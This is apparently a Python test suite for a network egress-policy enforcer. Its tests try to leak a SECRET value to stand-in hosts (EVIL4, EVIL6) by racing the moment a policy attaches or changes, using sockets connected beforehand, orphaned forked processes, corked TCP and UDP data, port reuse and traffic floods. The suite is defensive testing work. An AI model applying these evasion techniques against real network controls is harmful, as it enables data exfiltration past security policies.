"""What was prepared before the policy was in force, and races with it."""

import ctypes
import os
import socket
import time

from attack import *


def made():
    return [socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_STREAM),
            socket.socket(socket.AF_INET6, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_STREAM)]


def where(s):
    return (EVIL4 if s.family == socket.AF_INET else EVIL6, 80 if s.type == socket.SOCK_STREAM else 123)


def connected():
    sockets = made()
    for s in sockets:
        s.settimeout(TIMEOUT)
        s.connect(where(s))
        s.send(b"hello")
        s.recv(100)
    return sockets


def say(sockets):
    for s in sockets:
        attempt(lambda: s.send(SECRET), lambda: s.send(SECRET))


@way(stage="attach")
def sockets_made_before_attaching():
    """Sockets made while nobody selected the pod, and connected afterwards."""
    sockets = made()
    ready()
    for s in sockets:
        s.settimeout(TIMEOUT)
        attempt(lambda: s.connect(where(s)), lambda: s.send(SECRET))


@way(stage="attach")
def connections_from_before_attaching():
    """TCP and UDP sockets that were connected while nobody selected the pod."""
    sockets = connected()
    ready()
    say(sockets)


@way(stage="attach")
def orphan_from_before_attaching():
    """A process that was forked twice and left its parents before, with connections and without."""
    readable, writable = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sockets = connected()
            os.write(writable, b"!")
            time.sleep(0.6)
            say(sockets)
            attempt(lambda: tcp(EVIL4), lambda: udp(EVIL4))
        os._exit(0)
    os.wait()
    os.read(readable, 1)
    ready()
    time.sleep(1.2)


@way(stage="change")
def connections_from_before_a_change():
    """TCP and UDP sockets that were connected under a policy that allowed it."""
    sockets = connected()
    ready()
    say(sockets)


@way(stage="change")
def corked_before_a_change():
    """Bytes that were in the socket, and a datagram that was begun, before the change."""
    corked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    corked.connect((EVIL4, 123))
    corked.send(SECRET, 0x8000)
    stream = socket.create_connection((EVIL4, 80), TIMEOUT)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    stream.send(SECRET)
    ready()
    attempt(lambda: corked.send(b"."), lambda: stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 0))
    time.sleep(0.3)


@way(stage="change")
def opened_again_after_a_change():
    """A connection that was allowed, closed, and opened again from the same port to the same place."""
    first = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    first.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    first.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    first.bind(("", 7095))
    first.settimeout(TIMEOUT)
    first.connect((EVIL4, 80))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("", 7096))
    datagrams.sendto(b"hello", (EVIL4, 123))
    first.close()
    ready()
    attempt(lambda: tcp(EVIL4, bind=("", 7095)), lambda: datagrams.sendto(SECRET, (EVIL4, 123)))


def for_some_time(function, seconds=3):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            function()
        except OSError:
            pass


@way(flood=True)
def datagrams_while_policies_change():
    """Datagrams without pause, while the policy changes back and forth between two that deny them and the agent is
    started anew."""
    for_some_time(lambda: udp(EVIL4))


@way(flood=True)
def connections_while_policies_change():
    """The same with connections."""
    def connect():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.setblocking(False)
            s.connect_ex((EVIL4, 80))
    for_some_time(connect)


@way(flood=True)
def resolving_while_policies_change():
    """The same with an allowed name looked up, and its address used on the way."""
    import names
    def look_up():
        attempt(lambda: names.ask(wait=False).close())
        udp(EVIL4)
    for_some_time(look_up)


@way(stage="attach")
def datagrams_while_attaching():
    """Datagrams from before until after the policy is in force: what leaves once the agent has said so has escaped."""
    if os.fork() == 0:
        for_some_time(lambda: udp(EVIL4), 2)
        os._exit(0)
    time.sleep(0.2)
    ready()
    os.wait()
